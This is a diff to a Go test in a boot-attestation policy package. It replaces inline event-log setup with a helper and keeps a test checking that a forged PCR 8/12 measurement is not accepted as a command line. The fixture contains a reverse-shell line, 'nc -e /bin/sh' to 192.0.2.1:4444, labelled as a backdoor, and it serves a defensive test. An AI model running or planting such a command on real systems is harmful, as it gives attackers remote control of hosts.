@@ -1,7 +1,6 @@
 package policy
 
 import (
-	"os"
 	"testing"
 
 	"github.com/bootgate/bootgate/internal/eventlogtest"
@@ -13,22 +12,7 @@ import (
 // The host rewrites only the event's data to the measured bytes, hoping the
 // digest is then "explained" as a command line: it must still fail.
 func TestCmdlinePCRPreimageIsNoCommandLine(t *testing.T) {
-	raw, err := os.ReadFile("../../testdata/eventlogs/rhel8-uefi.bin")
-	if err != nil {
-		t.Fatal(err)
-	}
-	l, err := eventlogtest.Parse(raw)
-	if err != nil {
-		t.Fatal(err)
-	}
-	st, err := judge(raw, raw)
-	if err != nil {
-		t.Fatal(err)
-	}
-	pol, _, err := Learn("rhel8", st, LearnOptions{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	l, pol := rhel8(t)
 	measured := []byte("[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 192.0.2.1 4444'\n\x00\x01\x02 binary tail \xff\xfe")
 	for _, pcr := range []uint32{8, 12} {
 		booted, at := l.Insert(l.Event(pcr, eventlogtest.EvIPL, eventlogtest.UTF16("backdoor.cred\x00"), measured))
